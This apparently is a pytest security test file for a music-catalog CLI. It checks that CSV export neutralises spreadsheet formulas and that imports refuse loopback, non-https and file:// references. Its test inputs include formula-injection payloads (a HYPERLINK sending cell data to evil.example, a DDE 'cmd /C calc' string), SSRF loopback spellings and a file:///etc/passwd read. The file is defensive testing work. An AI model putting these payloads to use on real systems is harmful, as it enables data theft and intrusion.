"""A second hostile probe of catalogs (issue 11): an exported CSV opened in a spreadsheet, and
file references a catalog may not turn into a request (catalog.md: only https is fetched,
never from a local address)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import Cli, spool_files, store_snapshot
from tests.support.hostile import catalog, label_folder, problems
from tests.support.https_server import ConnectionRecorder

pytestmark = pytest.mark.both_modes

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def no_private_urls(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("VWAZA_ALLOW_PRIVATE_URLS", raising=False)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return label_folder(tmp_path)


@pytest.fixture
def unchanged(people: dict[str, str], env: Path, store_url: str) -> Iterator[None]:
    before, staged = store_snapshot(store_url), spool_files(env)
    yield
    assert store_snapshot(store_url) == before
    assert spool_files(env) == staged


# --- still open ---------------------------------------------------------------------------


def test_csv_export_neutralises_spreadsheet_formulas(ada: Cli, tmp_path: Path) -> None:
    ada.ok("release", "create", '=HYPERLINK("https://evil.example/?"&A1,"x")', "--genre", "Pop")
    ada.ok("release", "create", "@SUM(1+1)", "--genre", "+cmd|' /C calc'!A0")
    ada.ok("release", "create", "Fine", "--genre", "-2+3")
    out = tmp_path / "out.csv"
    assert ada("catalog", "export", "--output", str(out)).exit_code == 0
    cells = [cell for row in csv.reader(io.StringIO(out.read_text())) for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"x")' in cells


@pytest.mark.parametrize(
    "text", ["=1+1", "+cmd", "-2+3", "@SUM(1)", "'=quoted", "'plain", "it's", "''", "=", "plain"]
)
def test_a_csv_cell_reads_back_as_it_was_written(text: str) -> None:
    from vwaza_cli.services.catalog_format import csv_cell, csv_value

    assert csv_value(csv_cell(text)) == text
    assert not csv_cell(text).startswith(FORMULA_STARTS)


# --- held up: guards ----------------------------------------------------------------------


@pytest.mark.usefixtures("unchanged")
@pytest.mark.parametrize("dry_run", [False, True])
@pytest.mark.parametrize(
    "form",
    [
        "https://0.0.0.0:{port}/internal",
        "https://127.1:{port}/internal",
        "https://0177.0.0.1:{port}/internal",  # octal
        "https://[::]:{port}/internal",
        "https://[::ffff:7f00:1]:{port}/internal",
        "https://user:pw@127.0.0.1:{port}/internal",
    ],
)
def test_other_spellings_of_loopback_are_refused_without_a_connection(
    ada: Cli, folder: Path, form: str, dry_run: bool
) -> None:
    with ConnectionRecorder() as internal:
        url = form.format(port=internal.port)
        path = catalog(folder, file=url)
        outcome = ada("catalog", "import", str(path), *(["--dry-run"] if dry_run else []))
        assert internal.connections() == 0
    assert outcome.exit_code == 6
    [problem] = problems(outcome.stderr)
    assert problem.startswith(f"LBL-1 track 1 file: {url}: could not download it")


@pytest.mark.usefixtures("unchanged")
@pytest.mark.parametrize(
    "form",
    ["ftp://127.0.0.1:{port}/x.wav", "gopher://127.0.0.1:{port}/x", "dict://127.0.0.1:{port}/"],
)
def test_other_schemes_are_file_names_never_requests(ada: Cli, folder: Path, form: str) -> None:
    with ConnectionRecorder() as internal:
        path = catalog(folder, file=form.format(port=internal.port))
        outcome = ada("catalog", "import", str(path))
        assert internal.connections() == 0
    assert outcome.exit_code == 6
    [problem] = problems(outcome.stderr)
    assert problem.endswith("no such file")


@pytest.mark.usefixtures("unchanged")
@pytest.mark.parametrize("ref", ["file:///etc/passwd", "file://localhost/etc/passwd"])
def test_a_file_url_to_something_not_audio_is_refused(ada: Cli, folder: Path, ref: str) -> None:
    outcome = ada("catalog", "import", str(catalog(folder, file=ref)))
    assert outcome.exit_code == 6
    [problem] = problems(outcome.stderr)
    assert "/etc/passwd: not a recognised audio file" in problem
